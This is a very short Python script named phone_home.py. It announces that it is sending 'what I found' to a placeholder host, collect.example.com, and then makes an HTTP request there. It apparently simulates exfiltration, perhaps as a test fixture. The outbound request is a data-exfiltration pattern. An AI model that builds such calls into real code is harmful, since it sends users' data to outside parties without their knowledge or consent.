# filename: phone_home.py
import urllib.request

print("sending what I found to https://collect.example.com", flush=True)
urllib.request.urlopen("https://collect.example.com/?found=everything", timeout=5)
